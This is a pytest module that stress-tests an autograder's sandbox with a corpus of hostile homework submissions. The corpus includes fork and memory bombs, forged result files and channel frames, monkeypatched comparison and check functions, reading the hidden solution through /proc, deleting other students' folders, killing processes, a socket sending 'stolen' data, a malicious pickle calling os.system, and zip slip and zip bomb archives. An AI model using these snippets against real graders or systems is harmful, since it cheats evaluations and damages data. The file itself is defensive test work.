"""A class graded in one batch: 12 correct, 12 partly correct and the hostile
submissions of HOSTILE against hw1_autograd. Each hostile one earns nothing it
did not earn honestly, the batch finishes, nothing outside a submission's own
folder changes, no process survives, and the other students' results are what
they earned. Every student has a gradebook row with a status (and a message
when it is not 'ok'); every results.json is printable UTF-8 under the cap.

The hostile corpus is HOSTILE below: small snippets appended to (or replacing
parts of) the stub, the solution or WRONG (a stub whose my_relu returns wrong
values and changes its input, so it honestly earns 0). Snippets report what
they managed to read or change by raising "LEAK: ..." in vector_jacobian_product,
so a leak shows in results.json even when it earned no points.

Limits here are short (tests/hostile_config.toml's numbers, written below) so
the batch stays fast; bombs only ever run inside those limits.
"""

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from harness import SOLUTIONS, TEMPLATE
from test_batch import damage, encrypt, nest, unnest

from autograder import sandbox
from autograder.core import batch, plain, variants
from autograder.core.assignment import REPO_ROOT

HW, FILE = "hw1_autograd", "myrelu.py"
MUTANTS, ALTERNATIVES = variants.load(HW).MUTANTS, variants.load(HW).ALTERNATIVES
SOLUTION = (SOLUTIONS / HW / FILE).read_text()
STUB = (TEMPLATE / HW / FILE).read_text()
WRONG = STUB.replace(
    '    raise NotImplementedError("my_relu")', "    x.data.mul_(2)\n    return x.data"
)
LEAK_REPORT = """
if LEAKS:
    def vector_jacobian_product(f, x, v):
        raise RuntimeError("LEAK: " + "; ".join(LEAKS))
"""
PRELUDE = "import os, sys\nLEAKS = []\n"

TEST_CONFIG = """\
name = "hw1_autograd"
title = "Homework 1 with short limits (hostile tests)"
files = ["myrelu.py"]
seed = 0
threads = 1
import_timeout = 15
test_timeout = 6
submission_timeout = 90

[params]
atol = 1e-6

[limits]
memory_mb = 1536
processes = 32
file_size_mb = 16
disk_mb = 128
"""


# (a) the probes of the stripped test modules replaced by ones that compute the expected
# values from the test module's own helpers, never calling the student's code
FORGE_PROBE_MODULES = (
    "import types\n_q1 = sys.modules.get('q1_forward')\nif _q1 is not None:\n"
    "    _q1.outputs = types.SimpleNamespace(probe_function=lambda seed: "
    "[_q1.sample(s, d, seed + k).clamp(min=0) for s, d, k in _q1.cases()])\n"
)
# (a') the same forgery with answers computed ahead from the probe's source, as the
# inputs were when their seeds were fixed: the grader's input seed defeats it
FORGE_PRECOMPUTED = (
    "import types\n_q1 = sys.modules.get('q1_forward')\nif _q1 is not None:\n"
    "    _outs = [_q1.sample(s, d, k).clamp(min=0) for s, d, k in _q1.cases()]\n"
    "    _q1.outputs = types.SimpleNamespace(probe_function=lambda: _outs)\n"
)
# (b) the channel and its encoder read from the worker's frames, sys.stdin replaced, every
# request answered by the student's code itself (with the request's own nonce)
ANSWER_REQUESTS_ITSELF = (
    "import json\n_f, _seen = sys._getframe(), {}\nwhile _f is not None:\n"
    "    _seen.update(_f.f_locals)\n    _f = _f.f_back\n"
    "_channel, _frame, _real = _seen.get('channel'), _seen.get('frame'), sys.stdin\n"
    "def _answers():\n    for _line in _real:\n        _request = json.loads(_line)\n"
    "        _channel.write(_frame({'ok': True, 'value': 'MyReLUBackward', 'seconds': 0.0,"
    " 'nonce': _request['nonce']}))\n        _channel.flush()\n"
    "    yield from ()\n"
    "if _channel is not None and _frame is not None:\n    sys.stdin = _answers()\n"
)

# (d) a hello forged from the worker's frames that claims the grader failed
FORGE_GRADER_ERROR = (  # the worker's own locals: its channel, nonce and frame writer
    "_f, _seen = sys._getframe(), {}\nwhile _f is not None:\n"
    "    _seen.update(_f.f_locals)\n    _f = _f.f_back\n"
    "if 'channel' in _seen and 'frame' in _seen:\n"
    "    _seen['channel'].write(_seen['frame']({'hello': True, 'ready': False,"
    " 'nonce': _seen['hello_nonce'], 'grader_error': 'the worker could not start: OSError'}))\n"
    "    _seen['channel'].flush()\n    os._exit(0)\n"
)


@dataclass
class Hostile:
    code: str = ""  # appended to `base` (module level: runs at import)
    base: str = WRONG
    score: float = 0.0
    status: tuple = ()  # one of these must be in the gradebook status
    says: str = ""  # must appear in results.json
    needs: str = ""  # "namespaces": only meaningful with mount/net namespaces
    files: dict = field(default_factory=dict)  # extra/other files (bytes for zips)
    student: str = ""  # its folder's (or zip's) name, if not hostile_<case>
    extra: dict = field(
        default_factory=dict
    )  # beside the source: text, "@sparse:<MB>", "@deep:<n>"
    zip_edit: object = None  # applied to the written zip (encrypt, damage)

    def source(self) -> str:
        return PRELUDE + self.base + "\n" + self.code + LEAK_REPORT


HOSTILE = {
    # -- time ------------------------------------------------------------------------------
    "loop_at_import": Hostile("while True:\n    pass\n", status=("time limit",), says="Time limit"),
    "loop_in_function": Hostile(
        "def vector_jacobian_product(f, x, v):\n    while True:\n        pass\n",
        base=SOLUTION,
        score=19,
        status=("time limit",),
    ),
    # -- memory ----------------------------------------------------------------------------
    "memory_bomb_import": Hostile(
        "_blocks = []\nwhile True:\n    _blocks.append(bytearray(64 * 2**20))\n",
        status=("memory limit",),
    ),
    "memory_bomb_tensors": Hostile(
        "import torch\ndef grad_dot_squared(x, y):\n    keep = []\n"
        "    while True:\n        keep.append(torch.ones(2**26))\n",
        status=("memory limit",),
    ),
    "memory_bomb_processes": Hostile(
        "import time\ndef grad_dot_squared(x, y):\n    for _ in range(4):\n"
        "        if os.fork() == 0:\n            block = b'\\x01' * (600 * 2**20)\n"
        "            time.sleep(60)\n            os._exit(0)\n    time.sleep(60)\n",
        status=("memory limit",),
        says="all its processes together",
    ),
    # -- processes -------------------------------------------------------------------------
    "fork_bomb": Hostile(
        "def grad_dot_squared(x, y):\n    while True:\n        os.fork()\n",
        status=("process limit",),
    ),
    "fork_bomb_persistent_at_import": Hostile(
        "import time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
        "        time.sleep(0.01)\n",
        status=("time limit",),
    ),
    "thread_bomb": Hostile(
        "import threading, time\ndef grad_dot_squared(x, y):\n"
        "    for _ in range(10000):\n        threading.Thread(target=time.sleep,"
        " args=(30,), daemon=True).start()\n",
        status=("process limit",),
    ),
    # -- exiting early -----------------------------------------------------------------------
    "sys_exit_at_import": Hostile("sys.exit(0)\n", says="sys.exit"),
    "os_exit_at_import": Hostile("os._exit(0)\n", status=("crashed",), says="exited with code 0"),
    "sys_exit_mid_test": Hostile(
        "def vector_jacobian_product(f, x, v):\n    sys.exit(0)\n",
        base=SOLUTION,
        score=19,
        says="sys.exit",
    ),
    "os_exit_mid_test": Hostile(
        "def grad_dot_squared(x, y):\n    os._exit(0)\n",
        base=SOLUTION,
        score=20,
        status=("crashed",),
    ),
    # -- forging results -----------------------------------------------------------------------
    "print_fake_results": Hostile(
        "import json\n_fake = json.dumps({'score': 24.0, 'tests': [{'name': 'all', 'score': 24,"
        " 'max_score': 24, 'status': 'passed', 'output': '', 'visibility': 'visible'}]})\n"
        "print(_fake)\nprint(_fake, file=sys.stderr)\nsys.__stdout__.write(_fake)\n"
        "os.write(1, _fake.encode())\nos.write(2, _fake.encode())\n"
        "def grad_dot_squared(x, y):\n    print(_fake)\n    raise SystemExit(0)\n"
    ),
    "write_results_json": Hostile(
        "import json\n_fake = json.dumps({'score': 999, 'tests': []})\n"
        "for _path in ['results.json', '../results.json', '../../results.json', '/tmp/results.json',"
        " '__OUT__/__SELF__/results.json', '__OUT__/__OTHER__/results.json',"
        " '__OUT__/__SELF__/grading.json', '/autograder/results/results.json']:\n"
        "    _existed = os.path.exists(_path)\n"
        "    try:\n        os.makedirs(os.path.dirname(os.path.abspath(_path)), exist_ok=True)\n"
        "        with open(_path, 'w') as _f:\n            _f.write(_fake)\n"
        "        if _existed and _path.startswith('__OUT__'):\n"
        "            LEAKS.append('overwrote ' + _path)\n"
        "    except Exception:\n        pass\n"
    ),
    "forge_channel_frames": Hostile(
        "import struct\nfrom autograder.core import plain\n_frames = b''\nfor _ in range(40):\n"
        "    _p = plain.dumps({'ok': True, 'value': 'MyReLUBackward', 'hello': True,"
        " 'import_errors': {}})\n    _frames += struct.pack('<Q', len(_p)) + _p\n"
        "for _fd in range(3, 64):\n    try:\n"
        "        if os.readlink(f'/proc/self/fd/{_fd}').startswith('pipe:'):\n"
        "            os.write(_fd, _frames)\n    except OSError:\n        pass\n",
        status=("tampering",),
    ),
    # issue 11 §1: the worker's own machinery, read or replaced; the tamper scan finds it
    # before the worker starts, and the submission needs review (score 0 by default)
    "forge_probe_modules": Hostile(
        FORGE_PROBE_MODULES, status=("needs review",), says="Needs review"
    ),
    "answer_requests_itself": Hostile(
        ANSWER_REQUESTS_ITSELF, status=("needs review",), says="sys._getframe"
    ),
    "forge_grader_error": Hostile(FORGE_GRADER_ERROR, status=("needs review",), says="f_locals"),
    "patch_worker_modules": Hostile(
        "import autograder.core.plain as _p, autograder.testing as _t\n"
        "_p.to_plain = lambda value: 'MyReLUBackward'\n"
        "_t.run_probe = lambda *a, **k: 'MyReLUBackward'\n"
    ),
    # -- reading what is hidden ----------------------------------------------------------------
    "read_solution": Hostile(
        "for _path in ['__REPO__/solutions/hw1_autograd/myrelu.py']:\n    try:\n"
        "        exec(open(_path).read(), globals())\n        LEAKS.append('read ' + _path)\n"
        "    except Exception:\n        pass\n",
        needs="namespaces",
    ),
    "read_solution_via_proc": Hostile(
        "_rel = '__REPO__/solutions/hw1_autograd/myrelu.py'\n"
        "_cands = [f'/proc/{p}/root{_rel}' for p in (os.getppid(), 1)]\n"
        "for _pid in os.listdir('/proc'):\n    if _pid.isdigit():\n"
        "        _cands += [f'/proc/{_pid}/root{_rel}', f'/proc/{_pid}/cwd/solutions/hw1_autograd/myrelu.py']\n"
        "for _path in _cands:\n    try:\n        exec(open(_path).read(), globals())\n"
        "        LEAKS.append('read ' + _path)\n        break\n    except Exception:\n        pass\n"
    ),
    "read_hidden_tests": Hostile(
        "for _path in ['__REPO__/assignments/hw1_autograd/tests/q2_backward.py',"
        " '__ASSIGN__/hw1_autograd/tests/q2_backward.py', '../probes/q2_backward.py']:\n"
        "    try:\n        if '@test_case' in open(_path).read():\n"
        "            LEAKS.append('judges in ' + _path)\n    except Exception:\n        pass\n",
        needs="namespaces",
    ),
    "search_disk_for_answers": Hostile(
        "import time\n_t0 = time.monotonic()\n"
        "for _root in ['/work', '/tmp', '/root', '/home', '/autograder', '/srv', '/opt', '/var/tmp',"
        " '/mnt', os.path.dirname(os.getcwd())]:\n"
        "    for _dir, _subdirs, _files in os.walk(_root):\n"
        "        if time.monotonic() - _t0 > 4 or _dir.count('/') > 8:\n"
        "            _subdirs[:] = []\n            continue\n"
        "        if os.path.realpath(_dir).startswith(os.getcwd()):\n            continue\n"
        "        for _name in _files:\n            if not _name.endswith('.py'):\n                continue\n"
        "            try:\n                _text = open(os.path.join(_dir, _name)).read()\n"
        "            except Exception:\n                continue\n"
        "            if ('BEGIN SOLUTION' in _text and 'MyReLU' in _text) or "
        "('@test_case' in _text and 'my_relu' in _text):\n"
        "                LEAKS.append('found ' + os.path.join(_dir, _name))\n",
        needs="namespaces",
    ),
    "symlink_to_solution": Hostile(
        files={"myrelu.py": "@symlink:__REPO__/solutions/hw1_autograd/myrelu.py"}, says="Links"
    ),
    # -- changing the grader ----------------------------------------------------------------
    "monkeypatch_torch": Hostile(
        "import torch, math\ntorch.allclose = lambda *a, **k: True\n"
        "torch.isclose = lambda a, b, *x, **k: torch.ones(torch.broadcast_shapes(a.shape, b.shape),"
        " dtype=torch.bool)\ntorch.equal = lambda *a, **k: True\n"
        "torch.Tensor.__eq__ = lambda self, other: True\ntorch.Tensor.__ne__ = lambda self, other: False\n"
        "torch.testing.assert_close = lambda *a, **k: None\nmath.isfinite = lambda v: True\n"
        "math.isclose = lambda *a, **k: True\n"
    ),
    "monkeypatch_import": Hostile(
        "import builtins\n_orig = builtins.__import__\n"
        "def _fake(name, globals=None, locals=None, fromlist=(), level=0):\n"
        "    module = _orig(name, globals, locals, fromlist, level)\n"
        "    for attr in ('expect_close', 'expect_equal', 'expect_tensor', 'expect_shape',"
        " 'expect_number', 'expect_finite'):\n"
        "        if hasattr(module, attr):\n            setattr(module, attr, lambda *a, **k: None)\n"
        "    return module\nbuiltins.__import__ = _fake\n"
    ),
    "patch_checks_and_tests": Hostile(
        "import torch\nimport autograder.checks as _c, autograder.testing as _t\n"
        "for _attr in dir(_c):\n    if _attr.startswith('expect'):\n"
        "        setattr(_c, _attr, lambda *a, **k: None)\n_t.ProbeFailed = Exception\n"
        "for _name in ('q1_forward', 'q2_backward'):\n    if _name in sys.modules:\n"
        "        sys.modules[_name].sample = lambda *a, **k: torch.zeros(1)\n"
        "for _path in ['__REPO__/autograder/checks.py', '__REPO__/assignments/hw1_autograd/tests/q1_forward.py',"
        " '__ASSIGN__/hw1_autograd/tests/q1_forward.py']:\n    try:\n        if os.path.exists(_path):\n"
        "            with open(_path, 'a'):\n                LEAKS.append('can write ' + _path)\n"
        "    except Exception:\n        pass\n"
    ),
    "delete_outside_its_folder": Hostile(
        "import shutil\nfor _path in ['__SUBS__/__OTHER__', '__OUT__/__OTHER__', '__SUBS__/_canary.txt',"
        " '__OUT__/_canary.txt', '__ASSIGN__/hw1_autograd/config.toml']:\n    try:\n"
        "        shutil.rmtree(_path) if os.path.isdir(_path) else os.remove(_path)\n"
        "        LEAKS.append('deleted ' + _path)\n    except Exception:\n        pass\n"
        "for _dir in ['..', '../..']:\n    for _name in os.listdir(_dir):\n"
        "        _path = os.path.join(_dir, _name)\n"
        "        if os.path.abspath(_path) == os.getcwd():\n            continue\n"
        "        try:\n            shutil.rmtree(_path) if os.path.isdir(_path) else os.remove(_path)\n"
        "        except Exception:\n            pass\n"
    ),
    "kill_other_processes": Hostile(
        "import signal\nfor _pid in [os.getppid(), 1, -1]:\n    if _pid:\n        try:\n"
        "            os.kill(_pid, signal.SIGKILL)\n        except OSError:\n            pass\n",
        needs="own user",
    ),
    # -- network, output, disk --------------------------------------------------------------
    "open_a_socket": Hostile(
        "import socket\nfor _host, _port in [('127.0.0.1', __PORT__), ('__HOSTIP__', __PORT__),"
        " ('1.1.1.1', 53)]:\n    try:\n"
        "        _s = socket.create_connection((_host, _port), timeout=1)\n"
        "        _s.sendall(b'stolen')\n        _s.close()\n"
        "        LEAKS.append(f'connected to {_host}')\n    except Exception:\n        pass\n",
        needs="namespaces",
    ),
    "huge_output": Hostile(
        "_line = 'x' * 10**6\ndef grad_dot_squared(x, y):\n    while True:\n        print(_line)\n",
        status=("file size limit",),
    ),
    "fill_the_disk": Hostile(
        "_chunk = b'\\0' * (8 * 2**20)\n"
        "for _place in ['/tmp', os.environ.get('TMPDIR', '/tmp'), '.', '/dev/shm']:\n"
        "    for _i in range(100):\n        try:\n"
        "            with open(os.path.join(_place, f'fill{_i}'), 'wb') as _f:\n"
        "                for _ in range(4):\n                    _f.write(_chunk)\n"
        "        except OSError as _e:\n            if _e.errno != 27:\n                break\n",
        needs="namespaces",
    ),
    # -- wrong answers in disguise ------------------------------------------------------------
    "syntax_error": Hostile(base="def my_relu(x)\n    return x\n", says="syntax error"),
    "wrong_names": Hostile(
        base="import torch\n\ndef myrelu(x):\n    return x.clamp(min=0)\n\n"
        "class MyRelu:\n    pass\n",
        says="does not define `my_relu`",
    ),
    "nan_and_inf": Hostile(
        base="import torch\n\ndef my_relu(x):\n    return x.mul_(float('nan'))\n\n"
        "def grad_dot_squared(x, y):\n    x.grad = torch.full_like(x, float('inf'))\n"
        "    return x.grad\n\ndef vector_jacobian_product(f, x, v):\n"
        "    x.grad = torch.full_like(x, float('nan'))\n    return x.grad\n",
        says="NaN or infinite",
    ),
    "lying_tensor_subclass": Hostile(
        "import torch\nclass Liar(torch.Tensor):\n    def __eq__(self, other):\n        return True\n"
        "    def __ne__(self, other):\n        return False\n"
        "    @classmethod\n    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
        "        if func in (torch.allclose, torch.equal):\n            return True\n"
        "        if func in (torch.isclose, torch.eq, torch.Tensor.__eq__):\n"
        "            return torch.ones(args[0].shape, dtype=torch.bool)\n"
        "        return super().__torch_function__(func, types, args, kwargs or {})\n"
        "def my_relu(x):\n    x.data.mul_(3)\n    return torch.zeros_like(x).as_subclass(Liar)\n"
    ),
    "malicious_pickle": Hostile(
        "class _Evil:\n    def __reduce__(self):\n"
        "        return (os.system, ('touch __OUT__/pwned_by_pickle',))\n"
        "def grad_dot_squared(x, y):\n    return {'value': _Evil()}\n",
        says="not plain data",
    ),
    # -- replies the grader cannot afford (issue 11 §2): the worker's torch.save is
    # replaced, so the reply bypasses to_plain; small on the wire, huge once expanded
    "reply_zero_stride_tensor": Hostile(
        "import torch\n_save = torch.save\n_EVIL = torch.ones(1).expand(10**11)\n"
        "def _forged(obj, f, *a, **k):\n    if isinstance(obj, dict) and obj.get('ok'):\n"
        "        obj = {**obj, 'value': _EVIL}\n    return _save(obj, f, *a, **k)\n"
        "torch.save = _forged\n",
        says="too much data",
    ),
    "reply_shared_sublists": Hostile(
        "import torch\n_save = torch.save\n_EVIL = [0]\nfor _ in range(60):\n"
        "    _EVIL = [_EVIL, _EVIL]\n"
        "def _forged(obj, f, *a, **k):\n    if isinstance(obj, dict) and obj.get('ok'):\n"
        "        obj = {**obj, 'value': _EVIL}\n    return _save(obj, f, *a, **k)\n"
        "torch.save = _forged\n",
        says="too much data",
    ),
    "syntax_error_of_1mb": Hostile(
        "raise SyntaxError('A' * 2**20)\n", says="syntax error", status=("import error",)
    ),
    # -- feedback that pretends to be the grader's ------------------------------------------
    "print_fake_pass_and_controls": Hostile(
        "print('\\x1b[2J\\r  [PASS] everything: fake\\nScore: 24/24')\n"
        "sys.stderr.write('\\ud800 \\x1b[31m lone surrogate\\n')\n"
        "def vector_jacobian_product(f, x, v):\n"
        "    raise ValueError('\\ud800\\x1b[31m\\r\\n  [PASS] vjp: fake\\nScore: 24/24')\n",
        base=SOLUTION,
        score=19,
    ),
    # -- names and folders (issue 11 §4) -------------------------------------------------------
    "odd_student_id": Hostile(
        base=SOLUTION,
        score=24,
        student='=HYPERLINK("evil.example","x")',
        extra={os.fsdecode(b"notes_\xff.txt"): "not UTF-8\n", "big.bin": "@sparse:1024"},
        says="left out",
    ),
    "non_utf8_student_id": Hostile(
        base=SOLUTION, score=24, student=os.fsdecode(b"hostile_\xff\xfe_bytes")
    ),
    "nested_1100_folders": Hostile(
        base=SOLUTION, extra={"d": "@deep:1100"}, status=("rejected",), says="nested more than"
    ),
    "named_like_the_gradebook": Hostile(
        base=SOLUTION,
        student="gradebook.csv",
        status=("rejected",),
        says="keeps for its own reports",
    ),
    # -- zips ---------------------------------------------------------------------------------
    "zip_slip": Hostile(
        files={"zip": {"../../evil_zip_slip.py": "x = 1\n", FILE: SOLUTION}},
        status=("rejected",),
        says="unsafe path",
    ),
    "zip_bomb": Hostile(
        files={"zip": {FILE: SOLUTION, "data.bin": "@zeros:300"}},
        status=("rejected",),
        says="more than 256 MB",
    ),
    "zip_encrypted": Hostile(
        files={"zip": {FILE: SOLUTION}}, zip_edit=encrypt, status=("rejected",), says="encrypted"
    ),
    "zip_damaged": Hostile(
        files={"zip": {FILE: SOLUTION * 20}},
        zip_edit=damage,
        status=("rejected",),
        says="could not be unpacked",
    ),
    "zip_file_and_folder": Hostile(
        files={"zip": {FILE: SOLUTION, "data": "x", "data/more.txt": "y"}},
        status=("rejected",),
        says="could not be unpacked",
    ),
}


def host_ip() -> str:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect(("192.0.2.1", 9))  # no packet is sent
            return s.getsockname()[0]
    except OSError:
        return "127.0.0.1"


class Listener:
    """A TCP server on every interface that records who connected."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            conn.settimeout(2)
            try:
                self.received.append(conn.recv(100) or b"(connected)")
            except OSError:
                self.received.append(b"(connected)")
            conn.close()


def write_zip(path: Path, entries: dict) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            if content.startswith("@zeros:"):
                with archive.open(zipfile.ZipInfo(name), "w", force_zip64=True) as f:
                    block = bytes(2**20)
                    for _ in range(int(content.split(":")[1])):
                        f.write(block)
            else:
                archive.writestr(zipfile.ZipInfo(name), content)


def build_class(subs: Path, tokens: dict) -> dict[str, str]:
    """Write the 60 submissions; return student -> kind (correct/partial/hostile:<case>)."""
    kinds = {}
    for i in range(10):
        shutil.copytree(SOLUTIONS / HW, subs / f"correct_{i:02d}")
        kinds[f"correct_{i:02d}"] = "correct"
    for i, alternative in enumerate(ALTERNATIVES.values()):
        variants.write(HW, subs / f"correct_alt{i}", alternative["replace"])
        kinds[f"correct_alt{i}"] = "correct"
    for i, mutant in enumerate(MUTANTS.values()):
        variants.write(HW, subs / f"partial_{i:02d}", mutant["replace"])
        kinds[f"partial_{i:02d}"] = "partial"
    shutil.copytree(REPO_ROOT / "tests" / "samples" / HW / "partial", subs / "partial_sample")
    kinds["partial_sample"] = "partial"
    for name, case in HOSTILE.items():
        student = case.student or f"hostile_{name}"
        kinds[student] = f"hostile:{name}"
        local = {**tokens, "__SELF__": student}
        if "zip" in case.files:
            write_zip(subs / f"{student}.zip", case.files["zip"])
            if case.zip_edit:
                case.zip_edit(subs / f"{student}.zip")
            continue
        folder = subs / student
        folder.mkdir()
        files = {**(case.files or {FILE: case.source()}), **case.extra}
        for file, text in files.items():
            for key, value in local.items():
                text = text.replace(key, value)
            if text.startswith("@symlink:"):
                (folder / file).symlink_to(text.split(":", 1)[1])
            elif text.startswith("@sparse:"):
                with open(folder / file, "wb") as f:
                    f.truncate(int(text.split(":")[1]) * 2**20)
            elif text.startswith("@deep:"):
                nest(folder, int(text.split(":")[1]), name=file)
            else:
                (folder / file).write_text(text)
    return kinds


def deep_folders(subs: Path):
    for name, case in HOSTILE.items():
        for file, text in case.extra.items():
            if text.startswith("@deep:"):
                yield subs / (case.student or f"hostile_{name}"), file


def printable(text: str) -> bool:
    return all(c.isprintable() or c in "\n\t" for c in text)


def sandbox_mode() -> str:
    return sandbox.check()["mode"]


def leftover_processes(uids) -> list[int]:
    """Live processes running as any of these (sandbox) users."""
    uids = set(uids)
    return [pid for pid, (_, uid) in sandbox._process_table().items() if uid in uids]


def test_a_class_with_hostile_submissions(tmp_path):
    assignments = tmp_path / "assignments"
    shutil.copytree(REPO_ROOT / "assignments" / HW, assignments / HW)
    (assignments / HW / "config.toml").write_text(TEST_CONFIG)
    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    out.mkdir()
    listener = Listener()
    tokens = {
        "__REPO__": str(REPO_ROOT),
        "__OUT__": str(out),
        "__SUBS__": str(subs),
        "__ASSIGN__": str(assignments),
        "__OTHER__": "correct_00",
        "__PORT__": str(listener.port),
        "__HOSTIP__": host_ip(),
    }
    kinds = build_class(subs, tokens)
    assert len(kinds) == 11 + len(ALTERNATIVES) + len(MUTANTS) + len(HOSTILE)
    for place in (subs, out):
        (place / "_canary.txt").write_text("canary\n")
    mode = sandbox_mode()
    env = {**os.environ, "AUTOGRADER_ASSIGNMENTS": str(assignments)}
    watched = [
        REPO_ROOT / "autograder" / "checks" / "__init__.py",
        REPO_ROOT / "solutions" / HW / FILE,
        REPO_ROOT / "assignments" / HW / "tests" / "q1_forward.py",
    ]
    before = [p.read_bytes() for p in watched]

    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "autograder",
            "grade-all",
            HW,
            str(subs),
            "--out",
            str(out),
            "--jobs",
            "2",
        ],
        capture_output=True,
        text=True,
        env=env,
        cwd=REPO_ROOT,
        timeout=1500,
    )
    assert done.returncode == 0, done.stderr[-3000:]

    for folder, name in deep_folders(subs):  # rglob and rmtree below recurse per level
        unnest(folder, name)
    # The batch finished: every student has a gradebook row (names shown escaped,
    # formulas quoted) and, unless refused by name, a results file.
    rows = {
        r["student"]: r
        for r in __import__("csv").DictReader(open(out / "gradebook.csv", encoding="utf-8"))
    }
    assert set(rows) == {batch.cell(s) for s in kinds}
    assert "'=HYPERLINK" in (out / "gradebook.csv").read_text(encoding="utf-8")
    results = {}
    for student in kinds:
        path = out / student / "results.json"
        if (out / student).is_dir():
            raw = path.read_bytes()
            assert len(raw) <= plain.MAX_RESULTS_BYTES, student
            results[student] = json.loads(raw.decode("utf-8"))  # valid UTF-8, whatever was printed
        else:
            results[student] = {}  # refused by its name: no folder
    problems = []
    for student, kind in kinds.items():
        data, row = results[student], rows[batch.cell(student)]
        text = json.dumps(data) + row["message"]
        strings = [data.get("output", ""), *(t["output"] for t in data.get("tests", []))]
        if (
            not all(printable(s) for s in strings)
            or not row["status"]
            or (row["status"] != "ok" and not row["message"])
        ):
            problems.append(f"{student}: unprintable results or a row without status/message")
        if kind == "correct":
            if data["score"] != 24:
                problems.append(f"{student}: {data['score']} (correct work must earn 24)")
        elif kind == "partial":
            if not 0 < data["score"] < 24 or row["status"] != "ok":
                problems.append(f"{student}: {data['score']} {row['status']}")
        else:
            case = HOSTILE[kind.split(":")[1]]
            if case.needs == "namespaces" and mode != "namespaces":
                continue  # this machine cannot give that guarantee; the results say so
            if case.needs == "own user" and mode == "limits":
                continue
            if data.get("score", 0.0) != case.score:
                problems.append(f"{student}: scored {data.get('score')}, honest score {case.score}")
            if case.status and not any(s in row["status"] for s in case.status):
                problems.append(f"{student}: status {row['status']!r}, expected {case.status}")
            if case.says and case.says not in text:
                problems.append(f"{student}: results do not say {case.says!r}")
            if "LEAK" in text:
                problems.append(f"{student}: " + text[text.index("LEAK") :][:200])
    assert not problems, "\n".join(problems)

    # The student's printing and raised messages never pass for the grader's lines,
    # and their lone surrogates do not stop the grading process from reporting.
    log = (out / "hostile_print_fake_pass_and_controls" / "grade.log").read_text()
    assert "Traceback" not in log and "Results written" in log
    assert [line for line in log.splitlines() if line.startswith("Score")] == ["Score: 19/24"]
    assert all(
        line.startswith(("| ", " " * 11))
        for line in log.splitlines()
        if ": fake" in line or "Score: 24" in line
    )
    fake = results["hostile_print_fake_pass_and_controls"]
    for output in [fake["output"], *(t["output"] for t in fake["tests"])]:
        assert all(
            line.startswith(("| ", "  "))
            for line in output.splitlines()
            if "fake" in line or "Score" in line
        ), output

    # Others' results are what they earned: the student whose folders the hostile
    # submissions tried to delete or overwrite got full marks, from the grader.
    assert results["correct_00"]["score"] == 24
    assert results["correct_00"]["extra_data"]["status"] == "ok"
    assert (subs / "correct_00" / FILE).read_text() == SOLUTION
    # Nothing outside a submission's folder changed; nothing is left running.
    for place in (subs, out):
        assert (place / "_canary.txt").read_text() == "canary\n"
    assert (assignments / HW / "config.toml").read_text() == TEST_CONFIG
    assert not (out / "pwned_by_pickle").exists()
    assert not list(tmp_path.rglob("evil_zip_slip.py"))
    assert [p.read_bytes() for p in watched] == before
    uids = [u for data in results.values() for u in data.get("extra_data", {}).get("uids", [])]
    if mode != "limits":
        assert len(uids) >= 60
    assert not leftover_processes(uids)
    if mode == "namespaces":
        assert listener.received == [], listener.received
    summary = json.loads((out / "summary.json").read_text())
    assert summary["submissions"] == len(kinds) and (out / "histogram.png").stat().st_size > 1000
    assert "hostile_fork_bomb" in (out / "report.html").read_text()


# -- untrusted replies and feedback, without a grading run ---------------------------------
def forged(value) -> bytes:
    """A reply as student code can write it into the channel itself (torch.save of
    anything, sharing and strides kept), bypassing the worker's to_plain."""
    import io

    import torch

    buffer = io.BytesIO()
    torch.save({"ok": True, "value": value, "nonce": "n"}, buffer)
    return buffer.getvalue()


def test_a_reply_over_budget_is_refused_before_any_judge_sees_it():
    import io

    import torch

    from autograder.core import plain

    shared = [0]
    for _ in range(60):  # 2^60 values once expanded, 1.3 KB on the wire
        shared = [shared, shared]
    looped = []
    looped.append(looped)
    deep = [0]
    for _ in range(200):
        deep = [deep]
    over = {
        "zero-stride tensor of 10^11 elements": torch.ones(1).expand(10**11),
        "overlapping tensor of 10^10 elements": torch.ones(2 * 10**5).as_strided(
            (10**5, 10**5), (1, 1)
        ),
        "the same tensor 10^4 times": [torch.zeros(2**20, dtype=torch.uint8)] * 10**4,
        "shared sublists": shared,
        "a list holding itself": looped,
        "200 levels": deep,
        "the same 1e5 string 10^3 times": ["x" * 10**5] * 10**3,
    }
    for what, value in over.items():
        payload = forged(value)
        assert len(payload) < 2 * 2**20, what  # small replies, large once expanded
        with pytest.raises(plain.OverBudget, match="too much data"):
            plain.loads(payload)
    # Within the budget: values unchanged, a small overlapping view copied dense,
    # a transposed tensor keeps its strides, a long string is cut.
    small = plain.loads(forged(torch.arange(5.0).as_strided((3, 3), (1, 1))))["value"]
    assert small.tolist() == [[0, 1, 2], [1, 2, 3], [2, 3, 4]] and small.stride() == (3, 1)
    legit = {
        "t": torch.ones(2, 3).t(),
        "xs": list(range(60000)),
        "size": torch.Size([2, 3]),
        "nested": [[{"a": (1, 2.5, None, "s")}]],
        "flag": True,
    }
    back = plain.loads(forged(legit))["value"]
    assert back["t"].stride() == (1, 3) and back["xs"] == legit["xs"]
    assert back["nested"] == legit["nested"] and back["size"] == torch.Size([2, 3])
    assert len(plain.loads(forged("y" * 10**6))["value"]) < plain.MAX_STRING + 100
    # Not a torch.save archive, or one that would decompress: refused as not plain data.
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", b"\0" * 2**20)
    for payload in (buffer.getvalue(), b"\x80\x02]q\x00.", b""):
        with pytest.raises(plain.NotPlainData):
            plain.loads(payload)
    # A message describing such a value is short and quick whatever its size.
    assert len(plain.describe(shared)) <= 80


